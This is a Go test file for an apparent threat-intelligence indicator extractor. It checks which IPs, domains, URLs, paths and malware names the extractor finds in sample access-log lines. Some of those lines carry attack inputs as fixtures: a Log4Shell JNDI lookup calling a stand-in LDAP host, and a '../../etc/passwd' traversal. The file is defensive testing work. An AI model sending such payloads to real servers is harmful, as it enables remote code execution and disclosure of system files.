package extract_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/portent-cti/portent/internal/intel"
)

func TestALineOfAnAccessLogIsReadByItsFields(t *testing.T) {
	s := scanner(t)
	const date = ` - - [03/Mar/2026:12:11:09 +0000] `
	for line, want := range map[string]string{
		`192.0.2.7` + date + `"GET /admin/x.php?user=1 HTTP/1.1" 200 5`:                                                             "argument:user file:/admin/x.php ipv4:192.0.2.7",
		`4.3.2.1` + date + `"GET / HTTP/1.1" 200 5 "-" "-"`:                                                                         "ipv4:4.3.2.1",
		`2001:db8::5` + date + `"GET / HTTP/1.1" 200 5 "-" "-"`:                                                                     "ipv6:2001:db8::5",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "https://c2.evil.example/a" "Mozilla/5.0 (X11; Linux x86_64)"`:                 "domain:c2.evil.example ipv4:192.0.2.7 url:https://c2.evil.example/a",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "-" "Nightbell/1.0"`:                                                           "ipv4:192.0.2.7 malware:nightbell",
		`192.0.2.7` + date + `"GET /?q=${jndi:ldap://192.0.2.9/x} HTTP/1.1" 404 5 "-" "${jndi:ldap://192.0.2.8:1389/x}"`:            "argument:q input:${jndi:ldap://192.0.2.9/x} ipv4:192.0.2.7 ipv4:192.0.2.8 ipv4:192.0.2.9 port:1389/tcp url:ldap://192.0.2.8:1389/x url:ldap://192.0.2.9/x",
		`192.0.2.7` + date + `"GET /?f=../../etc/passwd HTTP/1.1" 404 5`:                                                            "argument:f input:../../etc/passwd ipv4:192.0.2.7",
		`192.0.2.7` + date + `"GET http://c2.evil.example/ HTTP/1.1" 404 5 "-" "-"`:                                                 "domain:c2.evil.example ipv4:192.0.2.7 url:http://c2.evil.example/",
		`192.0.2.7` + date + `"\x16\x03\x01 c2.evil.example" 400 5 "-" "-"`:                                                         "domain:c2.evil.example ipv4:192.0.2.7",
		`192.0.2.7 - ops@evil.example [03/Mar/2026:12:11:09 +0000] "GET / HTTP/1.1" 200 5`:                                          "email:ops@evil.example ipv4:192.0.2.7",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "-" "say \"hi\" to c2.evil.example"`:                                           "domain:c2.evil.example ipv4:192.0.2.7",
		`192.0.2.7` + date + `"GET /a.php?x=\"1 HTTP/1.1" 200 5`:                                                                    "argument:x file:/a.php ipv4:192.0.2.7",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "-" "-" "192.0.2.9" c2.evil.example`:                                           "domain:c2.evil.example ipv4:192.0.2.7 ipv4:192.0.2.9",
		`192.0.2.7` + date + `"GET / HTTP/1.1" 200 5 "-" "Mozilla` + "\r":                                                           "ipv4:192.0.2.7",
		"Lines as these were seen:\n" + `192.0.2.7` + date + `"GET /a.php?x=1 HTTP/1.1" 200 5` + "\nThey came from c2.evil.example": "argument:x domain:c2.evil.example file:/a.php ipv4:192.0.2.7",
	} {
		want := strings.Fields(want)
		slices.Sort(want)
		if got := found(s, line); !slices.Equal(got, want) {
			t.Errorf("%s\n\tgave %q\n\twant %q", line, got, want)
		}
		check(t, line, s.Observations(intel.Document{Text: line}))
	}
}

func TestALineOfALogSaysTheSameWhereverItStands(t *testing.T) {
	s := scanner(t)
	line := `4.3.2.1 - - [03/Mar/2026:12:11:09 +0000] "GET /a.php?x=1 HTTP/1.1" 200 5 "https://c2.evil.example/a" "Nightbell"` + "\n"
	text := "version\n" + line + "upgrade to\n" + line + line
	var first []intel.Observation
	for n, at := range []int{8, 8 + len(line) + 11, 8 + 2*len(line) + 11} {
		var here []intel.Observation
		for _, o := range s.Observations(intel.Document{Text: text}) {
			if o.Offset >= at && o.Offset < at+len(line) {
				o.Offset -= at
				here = append(here, o)
			}
		}
		if n == 0 {
			first = here
		}
		if len(here) == 0 || !slices.Equal(here, first) {
			t.Errorf("line %d gave %+v, the first %+v", n, here, first)
		}
	}
}

// TestNamesAreFoundInProseAndLogsInTurns reads a text whose words come from prose
// and from fields: unless they are merged in order, values hide names.
func TestNamesAreFoundInProseAndLogsInTurns(t *testing.T) {
	text := strings.Repeat("Nightbell was seen.\n"+`192.0.2.7 - - [03/Mar/2026:12:11:09 +0000] "GET / HTTP/1.1" 200 5 "-" "Nightbell"`+"\n", 5)
	os := scanner(t).Observations(intel.Document{Text: text})
	if !slices.IsSortedFunc(os, func(a, b intel.Observation) int { return a.Offset - b.Offset }) {
		t.Errorf("not in order: %+v", os)
	}
	n := 0
	for _, o := range os {
		if o.Entity.Kind == intel.Malware {
			n++
		}
	}
	if n != 10 {
		t.Errorf("%d mentions of Nightbell, want 10", n)
	}
}
